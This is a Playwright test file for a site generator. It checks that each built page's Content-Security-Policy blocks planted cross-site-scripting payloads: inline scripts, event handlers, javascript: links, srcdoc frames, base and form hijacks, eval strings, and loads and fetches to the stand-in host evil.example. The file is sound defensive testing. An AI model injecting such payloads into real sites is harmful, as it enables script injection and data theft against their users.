"""What a hole in a page would let in, planted into built pages of every kind: the policy stops all of it.

The same pages without their policy show that each plant would have worked, so that these tests can fail.
"""

import re
import shutil
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Request

from generator.offline.archive import write_archive
from tests.site.publish import Built, serve
from tests.site.test_browser import DESK
from tests.site.test_offline import SNAPSHOT
from tests.site.watch import Launch, Watched, watch

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
PAGES = (
    *("index.html", "404.html", "about/method/index.html", "firms/lumen-labs/index.html", "explore/index.html"),
    *("versions/index.html", "programs/lantern-evenings/index.html"),
    # Without the theme: an address that moved, a figure in a frame, a page as it once was.
    *("policies/talent-plan-2026/index.html", "figures/firms-and-universities/embed/index.html"),
    "versions/2030.1/firms/lumen-labs/index.html",
)
"""One page of each kind, as a file of the site."""

IN_HEAD = f"""<script src="PLACE/planted.js"></script><base href="{EVIL}/">
<link rel="stylesheet" href="{EVIL}/a.css"><style>body {{ --planted: 1 }}</style>"""
IN_BODY = f"""<script>told("fired", "script")</script>
<img src="data:image/png;base64,AAAA" onerror="told('fired', 'handler')">
<p id="planted-style" style="--planted: 2">x</p>
<a id="planted-link" href="javascript:told('fired', 'address')">x</a>
<script src="{EVIL}/a.js"></script><img src="{EVIL}/a.png"><iframe src="{EVIL}/a"></iframe>
<object data="{EVIL}/a.svg"></object>
<iframe srcdoc="<script>parent.told('fired', 'srcdoc')</script>"></iframe>
<form id="planted-form" action="{EVIL}/a" target="planted"><input name="a"></form>"""
OWN = """for (const run of [() => eval("told('fired', 'eval')"), () => new Function("told('fired', 'function')")(),
    () => setTimeout("told('fired', 'timer')", 0), () => fetch("https://evil.example/fetched").catch(() => {})]) {
  try { run() } catch {}
}
"""
"""A script of the site's own that does what none of its scripts does."""
WORKS = {"script", "handler", "address", "srcdoc", "eval", "function", "timer"}
STOPPED = {
    *("script-src-elem", "script-src-attr", "script-src", "style-src-elem", "style-src-attr", "img-src", "frame-src"),
    *("object-src", "base-uri", "form-action", "connect-src"),
}
"""The directives of the policy that have something to stop."""

LISTEN = """addEventListener("securitypolicyviolation", event => told("violation", event.effectiveDirective))"""
PRESS = """() => {
    document.getElementById("planted-link").click()
    document.getElementById("planted-form").requestSubmit()
    return [getComputedStyle(document.body).getPropertyValue("--planted").trim(),
        getComputedStyle(document.getElementById("planted-style")).getPropertyValue("--planted").trim()]
}"""


@dataclass
class Told:
    """What a planted page let through, and what was stopped on it."""

    fired: set[str] = field(default_factory=set)
    violation: set[str] = field(default_factory=set)
    asked: set[str] = field(default_factory=set)
    """The kinds of request that went to the other host."""
    styled: list[str] = field(default_factory=list)


def plant(path: Path, site: Path, *, has_policy: bool) -> str:
    """Writes the page with the plants in it beside itself; gives the new page's path below the site."""
    text = path.read_text(encoding="utf-8").replace(" data-to=", " data-was-to=")  # else the page leads on at once
    policy = re.search(r'<meta http-equiv="Content-Security-Policy"[^>]*>', text)
    assert policy, path
    top = "/".join([".."] * (len(path.relative_to(site).parts) - 1)) or "."
    text = text.replace(policy[0], (policy[0] if has_policy else "") + IN_HEAD.replace("PLACE", top), 1)
    text, found = re.subn(r"(<body[^>]*>)", lambda opening: opening[1] + IN_BODY, text, count=1)
    assert found == 1, path
    target = path.with_name(f"{'planted' if has_policy else 'bare'}-{path.name}")
    target.write_text(text, encoding="utf-8")
    return target.relative_to(site).as_posix()


def see_failure(request: Request, told: Told) -> None:
    """No host but this machine answers, so each request to another fails: before it is sent, or because it was."""
    if request.url.startswith(EVIL) and request.failure != "csp":
        told.asked.add(request.resource_type)


def look(watched: Watched, page: str) -> Told:
    """Opens a planted page, presses what is there to be pressed, and tells what came of it."""
    told = Told()
    watched.page.context.expose_binding("told", lambda source, kind, what: getattr(told, kind).add(what))
    watched.page.context.add_init_script(LISTEN)
    watched.page.context.on("requestfailed", lambda request: see_failure(request, told))
    watched.page.goto(watched.home + page, wait_until="load")
    told.styled = watched.page.evaluate(PRESS)
    watched.page.wait_for_timeout(300)
    return told


@pytest.fixture(scope="module")
def planted(built: Built, tmp_path_factory: pytest.TempPathFactory) -> Built:
    """A copy of the site in which every page of PAGES has a planted one beside it, with and without the policy."""
    copy = Built(tmp_path_factory.mktemp("planted"))
    shutil.copytree(built.site, copy.site)
    (copy.site / "planted.js").write_text(OWN, encoding="utf-8")
    for page in PAGES:
        for has_policy in (True, False):
            plant(copy.site / page, copy.site, has_policy=has_policy)
    return copy


@pytest.fixture(scope="module")
def home(planted: Built) -> Iterator[str]:
    with serve(planted) as served:
        yield served


@pytest.mark.parametrize("page", PAGES)
def test_nothing_that_is_planted_does_a_thing(browser: Launch, home: str, page: str) -> None:
    with watch(browser, home, viewport=DESK) as watched:
        told = look(watched, re.sub(r"[^/]+$", r"planted-\g<0>", page))
        assert told.fired == set()
        assert told.asked == set()
        assert told.styled == ["", ""]
        assert told.violation == STOPPED
        assert any("Content Security Policy" in error for error in watched.errors), "violations are mishaps everywhere"


@pytest.mark.parametrize("page", ["index.html", "versions/2030.1/firms/lumen-labs/index.html"])
def test_without_the_policy_every_plant_works(browser: Launch, home: str, page: str) -> None:
    with watch(browser, home, viewport=DESK) as watched:
        told = look(watched, page.replace("index.html", "bare-index.html"))
        assert told.fired == WORKS
        assert told.violation == set()
        assert {"script", "image", "stylesheet", "document", "fetch"} <= told.asked
        assert told.styled == ["1", "2"]


def test_the_copy_for_a_disk_has_the_policy_too(browser: Launch, built: Built, tmp_path: Path) -> None:
    write_archive(built.site, tmp_path / "archive.zip", SNAPSHOT)
    with zipfile.ZipFile(tmp_path / "archive.zip") as archive:
        archive.extractall(tmp_path)
    copy = tmp_path / SNAPSHOT.folder
    (copy / "planted.js").write_text(OWN, encoding="utf-8")
    for page in ("firms/lumen-labs/index.html", "figures/firms-and-universities/embed/index.html"):
        with watch(browser, f"{copy.as_uri()}/", viewport=DESK) as watched:
            told = look(watched, plant(copy / page, copy, has_policy=True))
            assert told.fired == set()
            assert told.asked == set()
            assert told.styled == ["", ""]
            assert told.violation == STOPPED
